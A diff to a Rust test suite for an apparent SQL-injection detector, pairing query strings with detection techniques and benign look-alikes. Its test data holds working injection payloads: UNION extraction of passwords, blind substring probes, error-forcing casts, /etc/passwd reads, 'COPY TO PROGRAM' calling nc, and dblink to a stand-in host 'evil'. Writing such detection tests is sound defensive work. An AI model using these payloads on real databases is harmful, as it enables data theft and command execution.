@@ -69,7 +69,6 @@ fn constant_true() {
             "SELECT * FROM users WHERE name IN (SELECT n FROM x WHERE n = 1 OR 1=1)",
             "UPDATE users SET admin = true WHERE id = 5 OR 7>3",
             "INSERT INTO comments (body) SELECT 'x' FROM users WHERE id = 1 OR 1=1",
-            "SELECT id FROM products WHERE id = 1 HAVING 1=1",
         ],
     );
     nothing(&[
@@ -86,8 +85,9 @@ fn constant_true() {
         "SELECT 1 = 1 OR 2 = 2",
         "SELECT * FROM users GROUP BY name HAVING count(*) > 1",
     ]);
-    // What never holds opens nothing: it is told, but weighs little.
-    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=2").score(), 1);
+    // What never holds opens nothing; of 0 and 1 builders write it for an empty list.
+    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=0").score(), 1);
+    assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=2").score(), 4);
     assert_eq!(look("SELECT * FROM users WHERE name = '' OR 1=1").score(), 5);
 }
 
@@ -127,7 +127,17 @@ fn union_probe() {
             "SELECT * FROM (SELECT a FROM t UNION SELECT NULL) x",
         ],
     );
+    shows(
+        Technique::UnionProbe,
+        &[
+            "SELECT id, name FROM products WHERE id = 1 UNION SELECT id, password || ':' || 0, 'x' FROM users",
+            "SELECT id, name, price FROM products UNION SELECT 1, name, 2 FROM users",
+            "SELECT id, name FROM products UNION VALUES (1, 'x')",
+        ],
+    );
     nothing(&[
+        "SELECT id, 'a' AS kind FROM a UNION ALL SELECT id, 'b' FROM b",
+        "SELECT x FROM generate_series(1, 5) AS x UNION ALL SELECT NULL",
         "SELECT id FROM orders UNION SELECT id FROM archived_orders",
         "SELECT id FROM orders UNION ALL SELECT * FROM archived_orders",
         "SELECT 1 UNION SELECT 2",
@@ -152,6 +162,9 @@ fn comment_truncation() {
             "DELETE FROM carts WHERE id = 1 --, x = 3 WHERE id = 5",
             "SELECT id FROM t WHERE a IN (1)-- ) AND active",
             "SELECT id FROM t WHERE lower(a) = lower('x')-- ')",
+            "SELECT id FROM t WHERE a = 1 --MbfW LIMIT 50",
+            "SELECT id FROM t WHERE a = 1; SELECT 2 FROM u--",
+            "SELECT a\nFROM t\nWHERE b = 'x' -- ' AND c = 3\nORDER BY a",
         ],
     );
     nothing(&[
@@ -227,13 +240,15 @@ fn file_program() {
         Technique::FileProgram,
         &[
             "SELECT * FROM users WHERE name = pg_read_file('/etc/passwd')",
-            "SELECT * FROM pg_ls_dir('.')",
+            "SELECT * FROM users WHERE name = (SELECT * FROM pg_ls_dir('.') LIMIT 1)",
             "SELECT 1; SELECT lo_import('/etc/passwd')",
             "COPY t FROM PROGRAM 'id'",
             "COPY (SELECT 1) TO PROGRAM 'nc 10.0.0.1 1234'",
             "SELECT 1; COPY users TO '/tmp/out'",
-            "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
-            "SELECT lo_get(id) FROM users",
+            "SELECT * FROM users WHERE name = (SELECT * FROM dblink('host=evil', 'select 1') AS t(a text))",
+            "SELECT name || dblink_connect('host=evil') FROM users",
+            "SELECT name || utl_http.request FROM users",
+            "SELECT * FROM users WHERE id = (SELECT lo_creat(-1))",
             "SELECT name || load_file('/etc/passwd') FROM users",
         ],
     );
@@ -241,6 +256,11 @@ fn file_program() {
         "COPY t FROM STDIN",
         "COPY lineitem FROM '/tmp/lineitem.csv' WITH (FORMAT csv)",
         "SELECT lo_open(16400, 131072)",
+        "SELECT lo_get(picture) FROM users",
+        // A report of an administrator, or of an application that has them: what it may call is the policy's matter.
+        "SELECT count(*) FROM pg_ls_waldir() WHERE name LIKE '%.ready'",
+        "SELECT * FROM dblink('host=reports', 'select 1') AS t(a int)",
+        "INSERT INTO totals SELECT * FROM dblink('host=reports', 'select 1') AS t(a int)",
         "SELECT loread(0, 16384)",
     ]);
 }
@@ -252,10 +272,6 @@ fn catalog_probe() {
         &[
             "SELECT * FROM users WHERE id = 1 AND (SELECT count(*) FROM pg_tables) > 0",
             "SELECT * FROM users WHERE name = (SELECT table_name FROM information_schema.tables LIMIT 1)",
-            "SELECT * FROM users WHERE substr(version(), 1, 10) = 'PostgreSQL'",
-            "SELECT * FROM users WHERE name = current_setting('data_directory')",
-            "SELECT * FROM users WHERE (SELECT @@version) = 'x'",
-            "SELECT * FROM users WHERE id = (SELECT count(*) FROM sysobjects)",
             "SELECT * FROM users WHERE xml = (SELECT query_to_xml('select 1', true, true, ''))",
         ],
     );
@@ -268,6 +284,288 @@ fn catalog_probe() {
         "SELECT * FROM orders WHERE owner = current_user",
         "CREATE VIEW v AS SELECT o.*, version() FROM orders o, pg_class",
         "SELECT @@ box '((0,0),(1,1))' FROM shapes",
+    ]);
+}
+
+#[test]
+fn an_optional_filter_is_no_constant_truth() {
+    // What applications send that put their values into the text.
+    for text in [
+        "SELECT * FROM books WHERE ('' = '' OR title = '')",
+        "SELECT * FROM books WHERE (5 = 0 OR category_id = 5) AND ('x' = 'all' OR kind = 'x')",
+        "SELECT * FROM books WHERE (NULL IS NULL OR title = NULL)",
+        "SELECT * FROM books WHERE (true OR title = 'x')",
+    ] {
+        assert_eq!(look(text).score(), 0, "{text}");
+    }
+    // The same words where an injection stands.
+    for text in [
+        "SELECT * FROM books WHERE title = '' OR '' = ''",
+        "SELECT * FROM books WHERE title = 'a' OR ('a' = 'a' OR title = 'a')",
+        "SELECT * FROM books WHERE id = 1 OR ('a' = 'a' OR title = 'a') AND 2 > 1",
+    ] {
+        assert!(look(text).score() >= 5, "{text}");
+    }
+}
+
+#[test]
+fn constant_condition() {
+    shows(
+        Technique::ConstantCondition,
+        &[
+            "SELECT * FROM users WHERE name = 'x' AND 4215=4215",
+            "SELECT * FROM users WHERE name = 'x' AND 'NUvw'='fpeq'",
+            "SELECT * FROM users WHERE id = 1 AND NOT 7=8",
+            "SELECT * FROM users WHERE id = 1 AND crc32('x') = crc32('x')",
+            "SELECT * FROM users WHERE id = (CASE WHEN 31=31 THEN 1 ELSE 2 END)",
+            "SELECT id FROM products WHERE id = 1 HAVING 1=1",
+            "SELECT id FROM products WHERE id = 1 HAVING ascii(substr(current_user, 1, 1)) > 50",
+            "INSERT INTO notes (body) VALUES ('a' = 'b')",
+            "UPDATE notes SET body = 'a' LIKE '%'",
+            "SELECT id FROM places WHERE lower(city) = lower('x' <> 'y')",
+            "SELECT name = name, current_database() = current_database() FROM products",
+        ],
+    );
+    nothing(&[
+        // Builders of SQL.
+        "SELECT * FROM users WHERE id = 1 AND 1=1 AND 1 = 0 AND TRUE",
+        "SELECT * FROM users WHERE id IN (1) AND 0 = 1",
+        "SELECT sum(a) FROM t GROUP BY b HAVING sum(a) = (sum(a))",
+        "SELECT sum(a) FROM t HAVING sum(a) > 3",
+        "SELECT my_aggregate(a) FROM t HAVING my_aggregate(a) > 3",
+        // What some ORMs let the server check before they write.
+        "SELECT 1 AS _check WHERE COALESCE((500 > 500 OR 500 < 500), true)",
+        "SELECT ((1 = 1) OR EXISTS(SELECT 1 AS a FROM items LIMIT 1)) AS _check",
+        "SELECT year, 40 > 30 AS greater FROM seasons",
+        "SELECT 4 = 4",
+        "SELECT CASE WHEN total > 100 THEN 'big' ELSE 'small' END FROM orders",
+        "SELECT * FROM jobs WHERE id = 1 AND now() > '2020-01-01'",
+        "SELECT * FROM t WHERE a = $1 AND $1 = $1",
+    ]);
+    // One comparison may be an application's value against its bound; two are what an injection needs to close its quotes.
+    assert_eq!(look("SELECT * FROM t WHERE a = 5 AND 20 > 0").score(), 3);
+    assert_eq!(look("SELECT * FROM t WHERE a = 'x' AND 20 > 10 AND 'a' = 'b'").score(), 5);
+}
+
+#[test]
+fn misplaced_value() {
+    shows(
+        Technique::MisplacedValue,
+        &[
+            "SELECT * FROM t ORDER BY id LIMIT 10 OFFSET (1 AND 3885=3885)",
+            "UPDATE t SET qty = 1 OR length(name) > 0 WHERE id = 5",
+            "INSERT INTO t VALUES (12, 'x' OR name IS NOT NULL)",
+            "INSERT INTO t VALUES (12, '1' AND a = 'b')",
+            "SELECT * FROM t WHERE id IN (1 OR TRUE)",
+            "SELECT * FROM t WHERE id IN (a = 1)",
+            "SELECT 1 AND 2 FROM t",
+            "SELECT * FROM t WHERE a = 1 OR 1 - 1",
+            "SELECT * FROM t WHERE title LIKE '%x' IS DISTINCT FROM 'y%'",
+            "SELECT * FROM t WHERE name = ('' LIKE '%')",
+            "SELECT ' or ''x''=' FROM t",
+        ],
+    );
+    nothing(&[
+        "SELECT * FROM t WHERE ('true') AND (('true'))",
+        "SELECT count(a = 1 OR NULL) FROM t",
+        "SELECT 'x' FROM t WHERE id = 1",
+        "UPDATE t SET active = a AND b",
+        "SELECT * FROM t WHERE (a = 1) = b",
+        "SELECT * FROM t WHERE (a IN (1, 2)) = true",
+        "SELECT 'a, b'",
+    ]);
+}
+
+#[test]
+fn unguarded_or() {
+    shows(
+        Technique::UnguardedOr,
+        &[
+            "SELECT id FROM users WHERE username = 'x' OR role = 'admin' AND password = 'y'",
+            "DELETE FROM carts WHERE id = 0 OR f(qty) > (1) AND user_id = 3",
+        ],
+    );
+    nothing(&[
+        "SELECT id FROM users WHERE username = 'x' OR (role = 'admin' AND password = 'y')",
+        "SELECT id FROM users WHERE (username = 'x' OR role = 'admin') AND password = 'y'",
+        "SELECT id FROM users WHERE username = $1 OR role = 'admin' AND password = $2",
+        "SELECT id FROM users WHERE a = 1 AND b = 2 OR a = 2 AND b = 3",
+    ]);
+}
+
+#[test]
+fn inline_comment() {
+    shows(
+        Technique::InlineComment,
+        &[
+            "SELECT * FROM t WHERE id = 1/**/OR/**/a",
+            "SELECT * FROM t WHERE id = 1 UNION/*x*/SELECT b FROM u",
+            "SELECT * FROM t WHERE id = 1 /*!50000 x */",
+        ],
+    );
+    nothing(&[
+        "SELECT * FROM t WHERE id = 1 /* controller='users' */",
+        "/* app */SELECT * FROM t",
+        "SELECT /*+ SeqScan(t) */ * FROM t",
+        "SELECT count(/* all */*) FROM t",
+        "SELECT a, /* the name */ b FROM t",
+        "SELECT * FROM t WHERE a = 'x/**/a/**/b'",
+        "SELECT * FROM t/*traceparent='00'*/",
+    ]);
+}
+
+#[test]
+fn error_forcing() {
+    shows(
+        Technique::ErrorForcing,
+        &[
+            "SELECT * FROM t WHERE id = 1 AND 1 = CAST((SELECT version()) AS int)",
+            "SELECT * FROM t WHERE id = CAST('q' || (SELECT password FROM users LIMIT 1) || 'q' AS numeric)",
+            "SELECT * FROM t WHERE id = CAST(chr(126) || (SELECT current_user) AS numeric)",
+            "SELECT * FROM t WHERE (SELECT CASE WHEN 1=1 THEN NULL ELSE CAST('CyTp' AS numeric) END) IS NULL",
+            "SELECT * FROM t WHERE id = 1/0",
+            "SELECT * FROM t WHERE id = 1/(SELECT 0)",
+            "SELECT * FROM t WHERE id = 1/(CASE WHEN a THEN 0 ELSE 1 END)",
+            "SELECT * FROM t WHERE id = (CASE WHEN a THEN 1 ELSE (SELECT 1 UNION SELECT 2) END)",
+            "SELECT * FROM t WHERE id = (SELECT 1 FROM generate_series(1, 1, CASE WHEN a THEN 1 ELSE 0 END))",
+            "SELECT CAST(query_to_xml('select 1', true, true, '')::text AS int) FROM t",
+            "SELECT current_database()::int FROM t",
+        ],
+    );
+    nothing(&[
+        "SELECT * FROM t WHERE id = '12'::int AND n = ' 3.5e1 '::numeric AND x = 'NaN'::float8",
+        "SELECT * FROM t WHERE id = ANY ('{1,2}'::int[])",
+        "SELECT 'pg_class'::regclass::oid FROM t",
+        "SELECT (a || b)::int, (year || '01')::int FROM t",
+        "SELECT * FROM t WHERE n > (SELECT value FROM settings WHERE key = 'limit')::int",
+        "SELECT a / CASE WHEN b = 0 THEN 1 ELSE b END FROM t",
+        "SELECT a / NULLIF(b, 0) FROM t",
+        "SELECT 1/0",
+        "SELECT * FROM t WHERE d > '2026-01-01'::date",
+    ]);
+}
+
+#[test]
+fn conditional_probe() {
+    shows(
+        Technique::ConditionalProbe,
+        &[
+            "SELECT * FROM t WHERE id = 1 AND ascii(substr((SELECT password FROM users LIMIT 1), 1, 1)) > 64",
+            "SELECT * FROM t WHERE id = 1 AND length((SELECT password FROM users)::text) > 8",
+            "SELECT * FROM t WHERE id = 1 AND substring(password, 1, 1) = 'a'",
+            "SELECT * FROM t WHERE id = (SELECT (CASE WHEN a THEN 1 ELSE 2 END))",
+            "SELECT * FROM t WHERE id = (CASE WHEN (SELECT count(*) FROM users) > 0 THEN 1 ELSE 2 END)",
+            "SELECT * FROM t WHERE id = 1 AND 1 = (SELECT 1)",
+            "SELECT * FROM t WHERE id = 1 AND (SELECT * FROM users) = 1",
+            "SELECT * FROM t WHERE id IN (SELECT)",
+            "SELECT * FROM t WHERE id = 1 AND substr('SQL', 1, 1) = 'S'",
+        ],
+    );
+    nothing(&[
+        "SELECT * FROM t WHERE left(name, 1) = 'A'",
+        "SELECT * FROM t WHERE length(name) > 3",
+        "SELECT * FROM t WHERE ascii(name) = 74",
+        "SELECT CASE WHEN a > 1 THEN 'x' ELSE 'y' END FROM t",
+        "SELECT (SELECT CASE WHEN count(*) > 0 THEN true ELSE false END FROM u WHERE u.id = t.id) FROM t",
+        "SELECT EXISTS (SELECT FROM t WHERE id = 1)",
+        "SELECT * FROM t WHERE owner = (SELECT current_setting('app.user'))",
+    ]);
+}
+
+#[test]
+fn clause_probe() {
+    shows(
+        Technique::ClauseProbe,
+        &[
+            "SELECT * FROM t LIMIT (SELECT 1)",
+            "SELECT * FROM t LIMIT id",
+            "SELECT * FROM t LIMIT 1 OFFSET (1 = 1)",
+            "SELECT * FROM t LIMIT CASE WHEN true THEN 1 ELSE 2 END",
+            "SELECT * FROM t LIMIT f(id)",
+            "SELECT * FROM t ORDER BY (SELECT password FROM users)",
+            "SELECT * FROM t ORDER BY a AND b",
+            "SELECT * FROM t ORDER BY 1 = 1",
+            "SELECT * FROM t ORDER BY 'name'",
+        ],
+    );
+    nothing(&[
+        "SELECT * FROM t LIMIT 10 OFFSET 20",
+        "SELECT * FROM t LIMIT $1 OFFSET $2",
+        "SELECT * FROM t LIMIT ALL",
+        "SELECT * FROM t LIMIT (10 * 5) OFFSET greatest(0, 3)",
+        "SELECT * FROM t ORDER BY a, 2, lower(b) DESC, c = 'x', CASE WHEN d THEN 1 ELSE 2 END",
+        "SELECT * FROM t ORDER BY (SELECT count(*) FROM u WHERE u.t_id = t.id)",
+    ]);
+}
+
+#[test]
+fn string_building() {
+    shows(
+        Technique::StringBuilding,
+        &[
+            "SELECT * FROM t WHERE name = 'a' || 'dmin'",
+            "INSERT INTO t VALUES (1, 'x' || (SELECT password FROM users WHERE id = 1) || '')",
+            "INSERT INTO t VALUES (1, '%' || (SELECT password FROM users)::text || '%')",
+            "SELECT * FROM t WHERE name = 'x' || f() || ''",
+            "SELECT * FROM t WHERE name = chr(97) || chr(98)",
+            "SELECT * FROM t WHERE name = concat('q', (SELECT version()))",
+            "SELECT * FROM t WHERE name = '' - ''",
+            "SELECT * FROM t WHERE name = 'x' + 'herp'",
+            "SELECT * FROM t WHERE name = 'see ' / etc",
+            "SELECT * FROM t WHERE id = 1 || 6",
+        ],
+    );
+    nothing(&[
+        "SELECT first || ' ' || last FROM t",
+        "SELECT * FROM t WHERE name LIKE '%' || $1 || '%'",
+        "SELECT a || chr(13) || chr(10) || b FROM t",
+        "SELECT * FROM t WHERE d > now() - '1 day'::interval",
+        "SELECT d - '1 day', e + '2026-01-01' FROM t",
+        "SELECT * FROM t WHERE name % 'similar'",
+        "SELECT 'a' || 'b'",
+        "SELECT a || '' FROM t",
+    ]);
+}
+
+#[test]
+fn server_probe() {
+    shows(
+        Technique::ServerProbe,
+        &[
+            "SELECT * FROM users WHERE substr(version(), 1, 10) = 'PostgreSQL'",
+            "SELECT * FROM users WHERE name = current_setting('data_directory')",
+            "SELECT * FROM users WHERE (SELECT @@version) = 'x'",
+        ],
+    );
+    nothing(&[
+        "SELECT version()",
+        "UPDATE t SET zone = current_setting('timezone')",
+        "SELECT * FROM orders WHERE tenant = current_setting('app.tenant')::int",
+    ]);
+}
+
+#[test]
+fn foreign_syntax() {
+    shows(
+        Technique::ForeignSyntax,
+        &[
+            "SELECT * FROM users WHERE id = (SELECT count(*) FROM sysobjects)",
+            "SELECT name FROM products UNION SELECT banner FROM v$version",
+            "SELECT * FROM users WHERE id = 1 OR 5 # rest",
+            "SELECT * FROM users WHERE id = ## rest",
+            "SELECT * FROM users WHERE name = \" or \"",
+            "SELECT * FROM users WHERE name = \"\"\"a\"",
+            "SELECT * FROM users WHERE name = \"-\"",
+            "SELECT * FROM users WHERE id = last_insert_rowid()",
+            "SELECT * FROM users WHERE a == b",
+        ],
+    );
+    nothing(&[
+        "WITH all_users AS (SELECT * FROM u) SELECT * FROM all_users",
+        "SELECT \"Name\", \"order items\".\"% total\" FROM \"order items\"",
+        "SELECT a # b, data #> '{a}', data #>> '{a,b}' FROM t",
+        "SELECT * FROM users WHERE a && b AND c @@ to_tsquery('x')",
+        "SELECT app.crc32(a) FROM t",
     ]);
 }
 
